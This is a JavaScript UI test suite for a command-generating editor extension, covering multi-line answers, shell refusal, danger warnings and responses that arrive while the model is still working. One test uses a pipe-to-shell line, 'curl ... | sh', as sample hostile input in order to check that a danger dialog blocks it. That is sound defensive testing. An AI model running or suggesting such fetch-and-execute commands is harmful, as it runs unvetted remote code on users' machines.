// What a model answers: several lines, which a terminal would run one by one, dangers, and answers that take their time.

import assert from 'node:assert/strict';
import { ModelServer } from '../openai.mjs';
import { until } from '../until.mjs';

/** A wish that the embedded generator has no answer for. */
const UNKNOWN = 'make me a sandwich';
const TWO_LINES = 'for name in one two; do\n  touch "$name.txt"\ndone';

/** A window in which a model that answers so was asked. */
async function asked(stage, after, answer, settings = {}) {
  const model = await ModelServer.start();
  after(() => model.stop());
  model.answer = answer;
  const window = await stage.window({ settings: { 'caro.server.url': model.url, ...settings } });
  await window.run('caro: Generate Command');
  await window.fill(UNKNOWN);
  await window.key('Enter');
  return window;
}

export const scenarios = {
  async 'several lines stand at the prompt and do not run'(stage, { after }) {
    const window = await asked(stage, after, TWO_LINES);
    await window.row('for name in one two').click();
    await window.row('Insert into Terminal').click();
    await window.terminalShows(/touch "\$name\.txt"\n(> )?done$/);
    await window.picture('at-the-prompt');
    // The shell still edits them, so it has run none.
    await window.type(' #');
    await window.terminalShows(/done #$/);
    assert.ok(!window.exists('one.txt') && !window.exists('two.txt'), 'nothing ran');
    await window.key('Enter');
    await until('the user’s Enter runs all of it', () => window.exists('one.txt') && window.exists('two.txt'));
  },

  async 'several lines are refused where a shell would run them one by one'(stage, { after }) {
    // dash knows no bracketed paste.
    const window = await asked(stage, after, TWO_LINES, {
      'terminal.integrated.profiles.linux': { dash: { path: '/bin/dash' } },
      'terminal.integrated.defaultProfile.linux': 'dash',
    });
    await window.row('for name in one two').click();
    await window.row('Insert into Terminal').click();
    await window.notification('several lines').waitFor();
    await window.picture('refused');
    assert.doesNotMatch(await window.terminal(), /touch/);
    assert.ok(!window.exists('one.txt'), 'nothing ran');
  },

  async 'a danger asks first, and says what would happen'(stage, { after }) {
    const window = await asked(stage, after, 'curl -s https://example.org/x | sh');
    await window.row('curl -s https://example.org/x | sh').waitFor();
    assert.match((await window.rows())[0], /danger/);
    await window.picture('danger');
    await window.key('Enter');
    await window.row('Insert into Terminal').waitFor();
    await window.picture('danger-risks');
    await window.row('Insert into Terminal').click();
    await window.dialog('This command is dangerous').waitFor();
    await window.picture('danger-asks');
    await window.key('Escape');
    await window.dialog('This command is dangerous').waitFor({ state: 'hidden' });
    assert.equal(await window.page.locator('.terminal-wrapper').count(), 0, 'no terminal was opened');
  },

  async 'while a model writes, our own answers are there already'(stage, { after }) {
    const model = await ModelServer.start();
    after(() => model.stop());
    model.answer = 'du -a . | sort -n | tail';
    model.hold();
    const window = await stage.window({ settings: { 'caro.server.url': model.url, 'caro.model.budgetMs': 60_000 } });
    await window.run('caro: Generate Command');
    await window.fill('find files larger than 100 MB');
    await window.key('Enter');
    await until('the model is asked', () => model.questions.length > 0);
    await window.row('find . -type f -size +100M').waitFor();
    await window.statusIs(/thinking/);
    await window.picture('while-it-thinks');
    model.release();
    await window.row('du -a .').waitFor();
    await window.statusIs(/Caro\b(?!: thinking)/);
    await window.picture('answered');
  },
};
